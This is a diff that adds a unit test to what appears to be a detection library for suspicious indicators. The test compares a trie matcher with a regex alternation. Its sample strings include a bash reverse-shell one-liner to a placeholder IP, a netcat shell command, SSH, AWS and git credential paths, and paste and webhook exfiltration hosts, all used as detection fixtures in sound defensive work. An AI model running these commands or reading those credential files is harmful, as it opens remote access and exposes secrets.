@@ -105,3 +105,22 @@ def test_documentation_placeholders_are_not_endpoints() -> None:
         "https://nothooks.slack.com/services/TABCDEFGH/BABCDEFGH/abcdefghijklmnop",
     ):
         assert [k for k, _ in find_indicators(text) if k == "endpoint.webhook"] == [], text
+
+
+def test_hint_trie_finds_what_the_plain_alternation_finds() -> None:
+    from capwatch.capabilities.indicators import _patterns
+
+    trie, by_hint = _patterns()
+    plain = re.compile("|".join(re.escape(h) for h in sorted(by_hint, key=len, reverse=True)))
+    hints = sorted(by_hint)
+    texts = [
+        "see https://pastebin.com/raw/x and paste.ee",
+        "~/.ssh/id_rsa ~/.aws/credentials .git-credentials",
+        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1; nc -e sh",
+        "discordapp.com/api/webhooks/1 webhook.site hooks.slack.com",
+        "".join(hints),
+        " ".join(reversed(hints)),
+        "".join(h[:-1] for h in hints),
+    ]
+    for text in texts:
+        assert trie.findall(text) == plain.findall(text), text
